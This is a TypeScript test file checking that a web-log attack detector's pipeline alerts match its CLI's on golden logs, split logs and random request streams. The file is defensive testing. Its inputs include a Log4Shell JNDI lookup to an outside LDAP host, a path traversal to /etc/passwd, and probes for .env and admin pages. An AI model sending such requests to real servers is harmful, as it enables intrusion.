import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { parse as parseYaml } from 'yaml';
import { DEFAULT_CONFIG, type DetectorConfig, parseDetectorConfig } from '../../lambdas/core/config.js';
import { type BatchObject, processLogBatch } from '../../lambdas/core/pipeline.js';
import type { AlertReport } from '../../lambdas/core/report.js';
import { buildReport } from '../../lambdas/core/report.js';
import { Detector } from '../../lambdas/core/scan.js';
import { MemoryPublisher, MemoryStateStore, linesOf } from '../support/memory-store.js';
import { timeAt } from '../support/records.js';

interface Golden {
  log: string;
  args: string[];
  expected: string;
}
const manifest = JSON.parse(readFileSync('events/logs/manifest.json', 'utf8')) as Golden[];

/** The configuration and format a manifest entry passes to the CLI (`--config`, `--format`). */
function optionsOf(args: readonly string[]): { config: DetectorConfig; format?: string } {
  let config = structuredClone(DEFAULT_CONFIG);
  let format: string | undefined;
  for (let i = 0; i < args.length; i += 2) {
    const value = args[i + 1] as string;
    if (args[i] === '--config') config = parseDetectorConfig(parseYaml(readFileSync(value, 'utf8')), value);
    else if (args[i] === '--format') format = value;
    else throw new Error(`the test does not know the option ${args[i]}`);
  }
  return { config, ...(format ? { format } : {}) };
}

/** What a source's alert says, as the comparison reads it. */
interface Verdict {
  trigger: string;
  severity: string;
  triggeredAt: string;
  firstSeen: string;
  lastSeen: string;
}
const verdictOf = (a: Pick<AlertReport, keyof Verdict>): Verdict => ({
  trigger: a.trigger,
  severity: a.severity,
  triggeredAt: a.triggeredAt,
  firstSeen: a.firstSeen,
  lastSeen: a.lastSeen,
});

/** The CLI's verdicts: its Detector over the lines as one object, as `probewatch scan` runs it. */
function cliVerdicts(lines: readonly string[], config: DetectorConfig, format?: string): Map<string, Verdict> {
  const d = new Detector(structuredClone(config), format ? { format } : {});
  const o = d.openObject('log');
  for (const l of lines) o.push(l);
  o.end();
  return new Map(buildReport(d).alerts.map((a) => [a.source, verdictOf(a)]));
}

let runs = 0;
/**
 * The pipeline's verdicts: the log as the given objects (each a batch of its own, in order, or all
 * in one batch), on an in-memory state store. The last alert published per source is its verdict
 * (a later object may escalate); every published alert is returned too.
 */
async function pipelineVerdicts(
  parts: readonly (readonly string[])[],
  config: DetectorConfig,
  opts: { format?: string; oneBatch?: boolean } = {},
): Promise<{ last: Map<string, Verdict>; all: Verdict[]; categories: Map<string, string[]> }> {
  const store = new MemoryStateStore();
  const publisher = new MemoryPublisher();
  const objects: BatchObject[] = parts.map((lines, i) => ({
    ref: { bucket: 'logs', key: `part-${i}.log`, etag: 'e' },
    lines: linesOf([...lines]),
    owner: `run-${++runs}`,
    ...(opts.format ? { format: opts.format } : {}),
  }));
  const deps = { store, publisher, config, environment: 'test', nowSec: 1_700_000_000 };
  const batches = opts.oneBatch ? [objects] : objects.map((o) => [o]);
  for (const batch of batches) {
    for (const r of await processLogBatch(batch, deps)) if (!r.ok) throw r.error;
  }
  const all = publisher.sent.map((m) => verdictOf(m.document));
  return {
    last: new Map(publisher.sent.map((m) => [m.document.source, verdictOf(m.document)])),
    all,
    categories: new Map(publisher.sent.map((m) => [m.document.source, m.document.categories])),
  };
}

/** The categories the CLI's report lists for each alerted source. */
function cliCategories(lines: readonly string[], config: DetectorConfig, format?: string): Map<string, string[]> {
  const d = new Detector(structuredClone(config), format ? { format } : {});
  const o = d.openObject('log');
  for (const l of lines) o.push(l);
  o.end();
  return new Map(buildReport(d).alerts.map((a) => [a.source, a.categories]));
}

function assertWithin(v: Verdict, what: string): void {
  assert.ok(v.triggeredAt >= v.firstSeen, `${what}: triggered at ${v.triggeredAt}, before its first request ${v.firstSeen}`);
  assert.ok(v.triggeredAt <= v.lastSeen, `${what}: triggered at ${v.triggeredAt}, after its last request ${v.lastSeen}`);
}

/** Triggers both of which can cross within one 10-s bucket, in an order only the lines show. */
const SHORT_WINDOW = new Set(['score', 'error-burst']);

describe('the pipeline decides as the CLI on every golden log', () => {
  for (const g of manifest) {
    it(`${g.log}: one object gives the CLI's alerts (trigger, rule, severity, time, categories)`, async () => {
      const lines = readFileSync(`events/logs/${g.log}`, 'utf8').split(/\r?\n/);
      const { config, format } = optionsOf(g.args);
      const cli = cliVerdicts(lines, config, format);
      // The Detector run here is the CLI's: its alerts are the reviewed golden's.
      const golden = JSON.parse(readFileSync(`events/logs/${g.expected}`, 'utf8')) as { alerts: AlertReport[] };
      assert.deepEqual(cli, new Map(golden.alerts.map((a) => [a.source, verdictOf(a)])));
      assert.ok(cli.size > 0, 'every golden log alerts at least one source');
      const pipeline = await pipelineVerdicts([lines], config, format ? { format } : {});
      assert.deepEqual(pipeline.last, cli);
      // What the alert says of the source: its categories, as the CLI lists them.
      assert.deepEqual(pipeline.categories, cliCategories(lines, config, format));
      for (const [source, v] of pipeline.last) assertWithin(v, source);
    });

    it(`${g.log}: split into objects, every alert lies within its source's requests, at the CLI's severity`, async () => {
      const lines = readFileSync(`events/logs/${g.log}`, 'utf8').split(/\r?\n/);
      const { config, format } = optionsOf(g.args);
      const cli = cliVerdicts(lines, config, format);
      const third = Math.ceil(lines.length / 3);
      const parts = [lines.slice(0, third), lines.slice(third, 2 * third), lines.slice(2 * third)];
      for (const oneBatch of [false, true]) {
        const pipeline = await pipelineVerdicts(parts, config, { ...(format ? { format } : {}), oneBatch });
        for (const v of pipeline.all) assertWithin(v, g.log);
        assert.deepEqual([...pipeline.last.keys()].sort(), [...cli.keys()].sort());
        for (const [source, want] of cli) {
          const got = pipeline.last.get(source) as Verdict;
          assert.equal(got.severity, want.severity, source);
          // Objects of separate batches are decided one after another: an earlier one alerts on
          // what it holds by itself (a form behaviour complete in it), before the rest arrives.
          if (!oneBatch) continue;
          // In one batch, on the merged state: the order of the lines inside one 10-s bucket is
          // gone, so a score and an error burst crossed in the same bucket may name either.
          if (!(SHORT_WINDOW.has(got.trigger) && SHORT_WINDOW.has(want.trigger))) assert.equal(got.trigger, want.trigger, source);
        }
      }
    });
  }
});

describe('decided on merged state (a source in several objects of a batch)', () => {
  const at = (ip: string, second: number, request: string, status: number, ua = 'curl/8.4.0') =>
    `${ip} - - [${timeAt(second)}] "${request}" ${status} 10 "-" "${ua}"`;
  const config = structuredClone(DEFAULT_CONFIG);

  it('a signature is named before the score its own request crossed, timed at that request', async () => {
    // The first object's probe and the second's Log4Shell request share the 10-s bucket at 0 s;
    // the Log4Shell request alone scores 50.
    const first = [at('198.51.100.9', 2, 'GET /cgi-bin/test.cgi HTTP/1.1', 404)];
    const second = [at('198.51.100.9', 7, 'GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1', 200)];
    const cli = cliVerdicts([...first, ...second], config, 'combined');
    assert.equal(cli.get('198.51.100.9')?.trigger, 'signature:log4shell');
    const merged = await pipelineVerdicts([first, second], config, { format: 'combined', oneBatch: true });
    assert.deepEqual(merged.last, cli);
  });

  it('a burst split over two objects is timed at the bucket it crossed in, never before the first request', async () => {
    // Requests from 3 s on: the bucket starts at 0 s; the score crosses 50 in the bucket at 10 s.
    const lines = Array.from({ length: 12 }, (_, i) => at('198.51.100.8', 3 + i, `GET /cgi-bin/x${i}.cgi HTTP/1.1`, 404));
    const cli = cliVerdicts(lines, config, 'combined').get('198.51.100.8') as Verdict;
    const merged = await pipelineVerdicts([lines.slice(0, 6), lines.slice(6)], config, { format: 'combined', oneBatch: true });
    const got = merged.last.get('198.51.100.8') as Verdict;
    assertWithin(got, 'merged');
    assert.equal(got.severity, cli.severity);
    // The CLI names the request; the merged buckets the start of its 10-s bucket.
    assert.equal(got.triggeredAt.slice(0, 18), cli.triggeredAt.slice(0, 18));
    assert.ok(got.triggeredAt <= cli.triggeredAt);
  });
});

describe('long horizons decided on merged state', () => {
  it('a slow sweep split over two objects is timed at its first request in the 5-minute bucket, as the CLI times it', async () => {
    // A distinct missing path every 100 s from 70 s: the 30th, at 2,970 s, crosses the 1-hour
    // horizon's 30 distinct paths in the 5-minute bucket that starts at 2,700 s, where the source's
    // first request is at 2,770 s. Nothing crosses the 2-minute window.
    const lines = Array.from({ length: 30 }, (_, i) => `198.51.100.30 - - [${timeAt(70 + i * 100)}] "GET /page-${i}.html HTTP/1.1" 404 10 "-" "curl/8.4.0"`);
    const config = structuredClone(DEFAULT_CONFIG);
    const cli = cliVerdicts(lines, config, 'combined').get('198.51.100.30') as Verdict;
    assert.match(cli.trigger, /^horizon/);
    assert.equal(cli.triggeredAt, new Date(Date.UTC(2024, 0, 1) + 2770_000).toISOString().replace('.000', ''));
    const merged = await pipelineVerdicts([lines.slice(0, 15), lines.slice(15)], config, { format: 'combined', oneBatch: true });
    const got = merged.last.get('198.51.100.30') as Verdict;
    assert.equal(got.trigger, cli.trigger);
    // To its 10-second bucket (2,770 s), not the 5-minute bucket's start (2,700 s), when it sent nothing.
    assert.equal(got.triggeredAt, cli.triggeredAt);
  });

  it('a scan that goes on for hours is alerted again after each cooldown, as the CLI alerts it', async () => {
    // A distinct missing path every 10 s for 4 hours, shipped every 20 minutes: the 2-minute
    // window alerts, and again after each hour's cooldown; the long horizons, crossed from the
    // first hour on, must not take those alerts' place with a time long past.
    const lines = Array.from({ length: 1440 }, (_, i) => `198.51.100.31 - - [${timeAt(70 + i * 10)}] "GET /page-${i}.html HTTP/1.1" 404 10 "-" "curl/8.4.0"`);
    const config = structuredClone(DEFAULT_CONFIG);
    const d = new Detector(structuredClone(config), { format: 'combined' });
    const o = d.openObject('log');
    for (const l of lines) o.push(l);
    o.end();
    const cliCount = buildReport(d).alerts[0]?.alertCount ?? 0;
    assert.ok(cliCount >= 3, `the CLI alerts ${cliCount} times`);
    const parts = Array.from({ length: 12 }, (_, k) => lines.slice(k * 120, k * 120 + 120));
    const piped = await pipelineVerdicts(parts, config, { format: 'combined' });
    assert.equal(piped.all.length, cliCount);
    for (const a of piped.all) assertWithin(a, 'every alert');
  });
});

describe('pipeline alerts are triggered within their source requests', () => {
  const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0';
  const ips = ['198.51.100.1', '198.51.100.2', '2001:db8:5::1'];
  const agents = [BROWSER, 'curl/8.4.0', 'python-requests/2.31'];
  const requests: [string, number][] = [
    ['GET / HTTP/1.1', 200],
    ['GET /missing-page HTTP/1.1', 404],
    ['GET /.env HTTP/1.1', 404],
    ['GET /cgi-bin/test.cgi HTTP/1.1', 404],
    ['GET /cgi-bin/status HTTP/1.1', 404],
    ['GET /static/../../../../etc/passwd HTTP/1.1', 400],
    ['GET /wp-login.php HTTP/1.1', 200],
    ['POST /wp-login.php HTTP/1.1', 200],
    ['POST /register HTTP/1.1', 302],
    ['GET /phpmyadmin/ HTTP/1.1', 404],
  ];
  // Bursts (a few seconds apart) and pauses of up to 40 minutes, starting anywhere in a minute,
  // each request with a path of its own now and then (distinct missing paths).
  const streams = fc
    .tuple(
      fc.integer({ min: 0, max: 59 }),
      fc.array(
        fc.record({
          ip: fc.integer({ min: 0, max: ips.length - 1 }),
          gap: fc.oneof(fc.integer({ min: 0, max: 4 }), fc.integer({ min: 5, max: 30 }), fc.integer({ min: 300, max: 2400 })),
          req: fc.integer({ min: 0, max: requests.length - 1 }),
          own: fc.boolean(),
        }),
        { minLength: 1, maxLength: 120 },
      ),
    )
    .map(([start, events]) => {
      let t = start;
      return events.map((e, i) => {
        t += e.gap;
        const [request, status] = requests[e.req] as [string, number];
        const r = e.own && status === 404 ? request.replace(' HTTP', `${i} HTTP`) : request;
        return `${ips[e.ip]} - - [${timeAt(t)}] "${r}" ${status} 10 "-" "${agents[e.ip]}"`;
      });
    });
  const config = structuredClone(DEFAULT_CONFIG);

  it('one object: the CLI alerts, each within [firstSeen, lastSeen]; split objects: still within', async () => {
    let alerted = 0;
    let split = 0;
    await fc.assert(
      fc.asyncProperty(streams, fc.integer({ min: 1, max: 3 }), fc.boolean(), async (lines, n, oneBatch) => {
        const one = await pipelineVerdicts([lines], config, { format: 'combined' });
        for (const v of one.all) assertWithin(v, 'one object');
        // The trigger, its rule, severity and time are the CLI's. (Its firstSeen may differ: the
        // CLI forgets a clean source idle for 25 min, the pipeline never within an object.)
        const decided = (m: Map<string, Verdict>) => [...m].map(([k, v]) => [k, v.trigger, v.severity, v.triggeredAt]).sort();
        assert.deepEqual(decided(one.last), decided(cliVerdicts(lines, config, 'combined')));
        alerted += one.all.length > 0 ? 1 : 0;
        const size = Math.ceil(lines.length / n);
        const parts = Array.from({ length: n }, (_, i) => lines.slice(i * size, (i + 1) * size)).filter((p) => p.length > 0);
        const many = await pipelineVerdicts(parts, config, { format: 'combined', oneBatch });
        for (const v of many.all) assertWithin(v, `${parts.length} objects`);
        split += parts.length > 1 && many.all.length > 0 ? 1 : 0;
      }),
      { numRuns: 150 },
    );
    // The property says little unless alerts were decided, on one object and on merged state.
    assert.ok(alerted > 30, `only ${alerted} runs alerted`);
    assert.ok(split > 20, `only ${split} split runs alerted`);
  });
});
